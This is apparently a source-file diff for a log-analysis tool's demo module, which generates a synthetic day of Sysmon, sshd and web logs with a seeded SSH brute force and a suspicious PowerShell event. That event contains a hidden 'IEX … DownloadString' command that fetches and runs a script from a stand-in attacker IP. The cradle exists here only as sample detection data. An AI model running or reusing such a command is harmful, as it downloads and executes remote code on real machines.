@@ -1,0 +1,100 @@
+"""Demo data: a small, believable day of events from Windows, Linux and a web server.
+
+Generated on the fly (nothing copied from elsewhere), timestamps in the last 24 hours, so
+``vigil demo`` shows a living store: a brute-force against sshd, a suspicious PowerShell
+download on a workstation, and ordinary traffic around them.
+"""
+
+from __future__ import annotations
+
+import random
+from datetime import datetime, timedelta
+from pathlib import Path
+
+import orjson
+
+from vigil.app import Vigil
+from vigil.core import tokens
+from vigil.core.timeutil import utcnow
+from vigil.core.tokens import Scope
+from vigil.ingest.batches import ParseOptions
+from vigil.ingest.files import ingest_inputs
+from vigil.ingest.inputs import expand
+
+HOSTS = ["WKS-ANNA.corp.example", "WKS-BEN.corp.example", "SRV-FILE01.corp.example"]
+USERS = ["anna", "ben", "carla", "deploy"]
+IMAGES = [r"C:\Windows\System32\svchost.exe", r"C:\Windows\explorer.exe",
+          r"C:\Program Files\Mozilla Firefox\firefox.exe", r"C:\Windows\System32\notepad.exe"]
+
+
+def _sysmon(ts: datetime, rng: random.Random, image: str, command: str) -> bytes:
+    host = rng.choice(HOSTS)
+    return orjson.dumps({
+        "@timestamp": ts.isoformat().replace("+00:00", "Z"), "Hostname": host,
+        "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
+        "SourceName": "Microsoft-Windows-Sysmon", "Image": image, "CommandLine": command,
+        "ParentImage": r"C:\Windows\explorer.exe", "User": f"CORP\\{rng.choice(USERS)}",
+        "ProcessId": str(rng.randint(1000, 9000)), "IntegrityLevel": "Medium",
+    })
+
+
+def _windows(start: datetime, rng: random.Random) -> list[bytes]:
+    lines = [_sysmon(start + timedelta(seconds=rng.randint(0, 86000)), rng, image,
+                     f'"{image}"') for image in rng.choices(IMAGES, k=600)]
+    attack = start + timedelta(hours=20)
+    lines.append(_sysmon(attack, rng, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+                         "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
+                         ".DownloadString('http://203.0.113.50/a.ps1')\""))
+    return lines
+
+
+def _auth(start: datetime, rng: random.Random) -> list[bytes]:
+    lines = []
+    for _ in range(400):
+        ts = start + timedelta(seconds=rng.randint(0, 86000))
+        user = rng.choice(USERS)
+        lines.append(f"{ts:%b %d %H:%M:%S} bastion sshd[{rng.randint(900, 9999)}]: Accepted "
+                     f"publickey for {user} from 198.51.100.{rng.randint(2, 250)} port "
+                     f"{rng.randint(30000, 60000)} ssh2".encode())
+    attack = start + timedelta(hours=19)
+    for second in range(300):
+        ts = attack + timedelta(seconds=second)
+        lines.append(f"{ts:%b %d %H:%M:%S} bastion sshd[4242]: Failed password for invalid user "
+                     f"admin{second % 7} from 203.0.113.50 port {40000 + second} ssh2".encode())
+    return sorted(lines)
+
+
+def _web(start: datetime, rng: random.Random) -> list[bytes]:
+    paths = ["/", "/login", "/static/app.js", "/api/items?page=2", "/health"]
+    lines = []
+    for _ in range(700):
+        ts = start + timedelta(seconds=rng.randint(0, 86000))
+        path = rng.choice(paths)
+        lines.append(f'192.0.2.{rng.randint(2, 250)} - - [{ts:%d/%b/%Y:%H:%M:%S +0000}] '
+                     f'"GET {path} HTTP/1.1" {rng.choice([200, 200, 200, 304, 404])} '
+                     f'{rng.randint(200, 9000)} "-" "Mozilla/5.0 (X11; Linux x86_64)"'.encode())
+    return lines
+
+
+def write_demo_files(folder: Path, now: datetime | None = None, seed: int = 7) -> list[Path]:
+    """Write the demo inputs to ``folder``; returns their paths."""
+    rng = random.Random(seed)
+    start = (now or utcnow()) - timedelta(hours=24)
+    folder.mkdir(parents=True, exist_ok=True)
+    files = {"windows-sysmon.json": _windows(start, rng), "auth.log": _auth(start, rng),
+             "access.log": _web(start, rng)}
+    paths = []
+    for name, lines in files.items():
+        path = folder / name
+        path.write_bytes(b"\n".join(lines) + b"\n")
+        paths.append(path)
+    return paths
+
+
+def load_demo(vigil: Vigil) -> tuple[int, str]:
+    """Store the demo events; returns how many were stored and an ingest token."""
+    paths = write_demo_files(vigil.settings.data_dir / "demo")
+    summary = ingest_inputs(expand([str(p) for p in paths]), vigil.store, vigil.db,
+                            ParseOptions(), workers=1)
+    token = tokens.create(vigil.db, "demo", Scope.INGEST)
+    return summary.stored, token
